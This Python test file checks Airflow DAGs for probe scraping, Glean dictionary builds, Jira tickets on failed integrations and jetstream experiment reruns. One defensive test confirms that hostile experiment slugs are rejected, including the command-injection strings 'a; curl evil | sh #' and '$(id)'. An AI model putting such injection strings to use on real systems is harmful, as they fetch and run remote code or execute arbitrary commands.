"""What hand-written DAGs do beyond their graph: branches, waiting, tickets, commands of users."""

from __future__ import annotations

from datetime import datetime, timedelta
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import jinja2
import pendulum
import pytest
from airflow.sdk.exceptions import ParamValidationError

from operators.jira import JiraTicketNotifier

if TYPE_CHECKING:
    from airflow.sdk import DAG

EAM = {
    "eam-gmail-panopto-integration",
    "eam-slack-channels-integration",
    "eam-workday-docusign-integration",
    "eam-workday-everfi-integration",
    "eam-workday-netsuite-integration",
}


@pytest.mark.parametrize(
    ("day", "follows"),
    [(1, "probe_scraper_check_expiry"), (2, "dummy_branch"), (3, "probe_scraper_check_fog_expiry")],
)
def test_probes_that_expire_are_looked_for_on_their_day(dags: dict[str, DAG], day: int, follows: str) -> None:
    branch: Any = dags["probe_scraper"].get_task("probe_scraper_check_branch")
    run = SimpleNamespace(logical_date=datetime(2026, 6, day), run_after=None)
    assert branch.python_callable(dag_run=run) == follows
    assert follows in branch.downstream_task_ids


def test_the_glean_dictionary_is_built_an_hour_later_whatever_failed(dags: dict[str, DAG]) -> None:
    wait: Any = dags["probe_scraper"].get_task("wait_for_1_hour")
    build: Any = dags["probe_scraper"].get_task("glean_dictionary_build")
    assert (wait.time_to_wait, wait.deferrable) == (timedelta(hours=1), True)
    assert build.upstream_task_ids == {"wait_for_1_hour"}
    assert (build.trigger_rule, build.endpoint) == (
        "all_done",
        "{{ var.value.glean_dictionary_netlify_build_webhook_id }}",
    )


def test_a_scraper_that_fails_holds_nothing_up(dags: dict[str, DAG]) -> None:
    joined: Any = dags["probe_scraper"].get_task("probe_scraper")
    assert joined.trigger_rule == "all_done"
    assert len(joined.upstream_task_ids) == 5


@pytest.mark.parametrize(
    ("update", "flags"),
    [
        (True, ["--glean-limit-date=2026-06-01", "--update"]),
        (False, ["--glean-limit-date=", "--no-update"]),
    ],
)
def test_what_the_glean_scrapers_read(dags: dict[str, DAG], update: bool, flags: list[str]) -> None:
    assert dags["probe_scraper"].params["update"] is True
    scraper: Any = dags["probe_scraper"].get_task("probe_scraper_glean_phabricator")
    command = scraper.arguments(
        context={"ds": "2026-06-01", "params": {"update": update}}, jinja_env=jinja2.Environment()
    )
    assert command[:3] == ["python3", "-m", "probe_scraper.runner"]
    assert command[-3:] == ["--glean-url=https://github.com/mozilla-conduit/review", *flags]


def test_a_failed_integration_opens_a_ticket(dags: dict[str, DAG]) -> None:
    assert set(dags) >= EAM
    for dag_id in EAM:
        for task in dags[dag_id].tasks:
            (notifier,) = task.on_failure_callback
            assert isinstance(notifier, JiraTicketNotifier)
            assert (notifier.project, notifier.issue_type, notifier.conn_id) == (
                "ASP",
                "10020",
                "eam_jira_connection_id",
            )


def rerun(dags: dict[str, DAG], **given: Any) -> list[str]:
    """The command that ``jetstream_rerun`` makes of the values of its form."""
    dag = dags["jetstream_rerun"]
    task: Any = dag.get_task("generate_rerun_arguments")
    defaults = {name: param.value for name, param in dag.params.items() if name != "experiment_slug"}
    command: list[str] = task.python_callable(params=defaults | given)
    return command


def test_an_experiment_is_analysed_again(dags: dict[str, DAG]) -> None:
    assert rerun(dags, experiment_slug="some-slug") == ["rerun", "--slug", "some-slug", "--argo"]
    assert rerun(dags, experiment_slug="s", recreate_enrollments=True, statistics_only=True)[4:] == [
        "--recreate-enrollments",
        "--statistics-only=true",
    ]
    assert rerun(dags, experiment_slug="s", analysis_overall=True, analysis_week=True, analysis_day=True)[4:] == [
        "--analysis-periods=overall",
        "--analysis-periods=week",
        "--analysis-periods=day",
    ]


@pytest.mark.parametrize("slug", ["a; curl evil | sh #", "$(id)", "a b", "", None, "--all", "slug\n"])
def test_a_hostile_slug_is_refused(dags: dict[str, DAG], slug: Any) -> None:
    with pytest.raises(ParamValidationError):
        dags["jetstream_rerun"].params.get_param("experiment_slug").resolve(slug)


def test_analysis_waits_for_the_day_it_analyses(dags: dict[str, DAG]) -> None:
    dag = dags["jetstream"]
    logical_date = pendulum.datetime(2026, 6, 1, 4)
    waited_for = {
        (sensor.external_dag_id, sensor.external_task_id): logical_date - sensor.execution_delta
        for sensor in (dag.get_task(name) for name in dag.get_task("jetstream_run").upstream_task_ids)
        if hasattr(sensor, "external_dag_id")
    }
    assert len(waited_for) == 4
    assert all(date.date() == logical_date.date() for date in waited_for.values())
